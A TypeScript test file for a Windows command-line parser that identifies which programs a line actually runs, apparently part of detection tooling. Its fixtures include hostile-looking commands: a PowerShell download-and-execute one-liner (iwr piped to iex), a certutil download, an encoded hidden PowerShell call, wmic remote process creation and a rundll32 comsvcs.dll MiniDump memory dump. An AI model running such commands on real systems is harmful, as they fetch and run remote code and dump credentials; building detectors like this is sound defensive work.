import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cpuMs } from '../../../test/cpu-time.ts'
import { argumentsOf, quotedForWindows, windowsWords } from './windows-arguments.ts'
import { hasSwitch, rundll32Call, windowsCommandsOf, windowsRuns } from './windows-command.ts'

const encoded = (code: string) => Buffer.from(code, 'utf16le').toString('base64')

describe('windowsWords', () => {
  // The first five are Microsoft's own examples ("Parsing C command-line arguments").
  it.each<[string, string[]]>([
    ['"a b c" d e', ['a b c', 'd', 'e']],
    ['"ab\\"c" "\\\\" d', ['ab"c', '\\', 'd']],
    ['a\\\\\\b d"e f"g h', ['a\\\\\\b', 'de fg', 'h']],
    ['a\\\\\\"b c d', ['a\\"b', 'c', 'd']],
    ['a\\\\\\\\"b c" d e', ['a\\\\b c', 'd', 'e']],
    ['""', ['']],
    ['a "" b', ['a', '', 'b']],
    ['"a""b"', ['a"b']],
    ['"a b', ['a b']],
    ['C:\\a\\', ['C:\\a\\']],
    ['  \t ', []],
    // Only blanks, tabs and line ends part words: not every space that Unicode has.
    ['a\u00a0b\u3000c\fd \u2003', ['a\u00a0b\u3000c\fd', '\u2003']],
  ])('%s', (text, args) => {
    expect(argumentsOf(text)).toEqual(args)
  })

  it.each([
    ['"C:\\a b\\x.exe" -y', 'C:\\a b\\x.exe', ['-y']],
    ['C:\\Program Files\\a b\\x.exe -y', 'C:\\Program Files\\a b\\x.exe', ['-y']],
    ['C:\\Windows\\System32\\cmd /c foo.exe', 'C:\\Windows\\System32\\cmd', ['/c', 'foo.exe']],
    ['C:\\x\\run -a foo.exe', 'C:\\x\\run', ['-a', 'foo.exe']],
    ['po"wer"shell -c', 'powershell', ['-c']],
    ['"C:\\a b', 'C:\\a b', []],
    ['', '', []],
  ])('%s: program and arguments', (line, path, args) => {
    expect(windowsWords(line)).toMatchObject({ path, args })
  })

  it('gives back every argument that is quoted as Windows wants it', () => {
    const word = fc.string({
      unit: fc.constantFrom('a', ' ', '"', '\\', 'é', '&', '\t', '\u00a0', '\v'),
      maxLength: 10,
    })
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), words => {
        expect(argumentsOf(words.map(quotedForWindows).join(' '))).toEqual(words)
      }),
    )
  })
})

describe('windowsCommandsOf', () => {
  const programs = (line: string) => windowsCommandsOf(line).map(({ program }) => program)

  it.each<[string, string[]]>([
    ['', []],
    ['C:\\Windows\\System32\\WHOAMI.EXE /all', ['whoami']],
    ['\\??\\C:\\Windows\\system32\\conhost.exe 0x4', ['conhost']],
    ['conhost.exe 0xffffffff -ForceV1', ['conhost']],
    ['conhost --headless powershell -c whoami', ['conhost', 'powershell', 'whoami']],
    ['cmd', ['cmd']],
    ['cmd /?', ['cmd']],
    ['cmd /c "n^et user & w^hoami"', ['cmd', 'net', 'whoami']],
    ['cmd /q/c"net user"', ['cmd', 'net']],
    ['cmd.exe /V:ON /D /k whoami', ['cmd', 'whoami']],
    ['cmd /c ""C:\\a b\\x.bat" arg"', ['cmd', 'x.bat']],
    ['cmd /c "C:\\a b\\x.exe"', ['cmd', 'x']],
    ['%COMSPEC% /b /c start /b "" powershell -c whoami', ['cmd', 'powershell', 'whoami']],
    ['cmd /c start "t" /d "C:\\a b" /min calc.exe', ['cmd', 'calc']],
    ['cmd /c start "C:\\a b\\calc.exe"', ['cmd', 'calc']],
    ['cmd /c (cd C:\\ && @call a.bat) || b', ['cmd', 'cd', 'a.bat', 'b']],
    ['cmd /c for %i in (1) do calc', ['cmd', 'for', '1', 'calc']],
    ['cmd /c echo a ^& b', ['cmd', 'echo']],
    ['cmd /c echo "a & b" 2>&1 >> c.txt', ['cmd', 'echo']],
    ['cmd /c cmd /c cmd /c whoami', ['cmd', 'cmd', 'cmd', 'whoami']],
    ['powershell "& {iwr http://192.0.2.1 | iex}"', ['powershell', 'invoke-webrequest', 'invoke-expression']],
    [
      `powershell -NoP -w hidden -enc ${encoded('cmd /c whoami; net.exe user')}`,
      ['powershell', 'cmd', 'net', 'whoami'],
    ],
    ['pwsh -File C:\\a.ps1', ['pwsh']],
    ['forfiles /m a /c "cmd /c calc"', ['forfiles', 'cmd', 'calc']],
    ['wmic /node:a process call create "cmd /c calc"', ['wmic', 'cmd', 'calc']],
    ['wmic process list', ['wmic']],
    ['pcalua.exe -a C:\\a\\x.exe', ['pcalua', 'x']],
    ['runas /user:a "cmd /c calc"', ['runas', 'cmd', 'calc']],
  ])('%s', (line, expected) => {
    expect(programs(line)).toEqual(expected)
  })

  it('tells what reads from a pipe, and what runs what', () => {
    expect(windowsCommandsOf('cmd /c echo "a|b" | find "x"')).toMatchObject([
      { program: 'cmd', piped: false, within: null },
      { program: 'echo', args: ['a|b'], piped: false, within: { program: 'cmd' } },
      { program: 'find', args: ['x'], piped: true },
    ])
  })

  it('answers whether a program is run, not whether it is spoken of', () => {
    expect(windowsRuns('cmd /c certutil -urlcache -f http://192.0.2.1/a a.exe', 'certutil')).toBe(true)
    expect(windowsRuns('findstr certutil.exe a.txt', 'certutil')).toBe(false)
    expect(windowsRuns('C:\\certutil\\x.exe', 'certutil')).toBe(false)
  })
})

describe('hasSwitch', () => {
  const has = (line: string, name: string, least?: number) =>
    windowsCommandsOf(line).some(command => hasSwitch(command, name, least))

  it.each([
    ['x /Create', true],
    ['x -create', true],
    ['x --CREATE', true],
    ['x /create:a', true],
    ['x -create=a', true],
    ['x create', false],
    ['x /created', false],
    ['x /crea', false],
    ['x C:/create', false],
  ])('%s: %s', (line, is) => {
    expect(has(line, 'create')).toBe(is)
  })

  it('takes abbreviations down to what is given as the least', () => {
    expect(has('x /crea', 'create', 3)).toBe(true)
    expect(has('x /cr', 'create', 3)).toBe(false)
  })
})

describe('rundll32Call', () => {
  it.each([
    ['C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 a', { library: 'comsvcs.dll', entry: 'minidump' }],
    ['comsvcs.dll MiniDump', { library: 'comsvcs.dll', entry: 'minidump' }],
    ['"C:\\a b\\x.DLL",#24', { library: 'x.dll', entry: '#24' }],
    ['x.dll ,Entry', { library: 'x.dll', entry: 'entry' }],
    ['x', { library: 'x', entry: '' }],
    ['', null],
  ])('%s', (rest, call) => {
    const [command] = windowsCommandsOf(`rundll32.exe ${rest}`)
    expect(command && rundll32Call(command)).toEqual(call)
  })

  it('knows that other programs call nothing', () => {
    expect(windowsCommandsOf('regsvr32 x.dll,Entry').map(rundll32Call)).toEqual([null])
  })
})

describe('hostile lines', () => {
  const pieces = [
    'a',
    ' ',
    '"',
    '\\',
    '\\"',
    '""',
    '^',
    '&',
    '|',
    '(',
    '>',
    '> ',
    'cmd /c ',
    'cmd /c "',
    'cmd /c start ',
    'cmd /c start /d ',
    'cmd /c call ',
    'cmd /',
    'cmd /c a&',
    'powershell -c ',
    'powershell -c a;',
    'powershell "',
    'powershell -enc YQBhAGEA ',
    "powershell '",
    'powershell $x=',
    'powershell <#',
    'C:\\a b',
    'C:\\a.exe\\',
    'forfiles /c ',
    'conhost ',
    '/a:',
    '\u202e',
    '\u00a0',
    '\f',
    '@',
    '`',
    "'+'",
  ]

  it.each(pieces)('take no time: %j', piece => {
    for (const start of ['', 'cmd /c ', 'powershell -c ']) {
      const line = `${start}${piece.repeat(Math.ceil(10_000 / piece.length))}`
      const ms = cpuMs(index => {
        windowsRuns(`${line}${index}`, 'none')
      })
      expect(ms, start).toBeLessThan(5)
    }
  })

  it('never throw, whatever the text', () => {
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 20 }).map(parts => parts.join(''))
    fc.assert(
      fc.property(fc.oneof(text, fc.string({ unit: 'binary' })), line => {
        for (const command of windowsCommandsOf(line)) {
          rundll32Call(command)
          hasSwitch(command, 'a')
        }
      }),
    )
  })
})
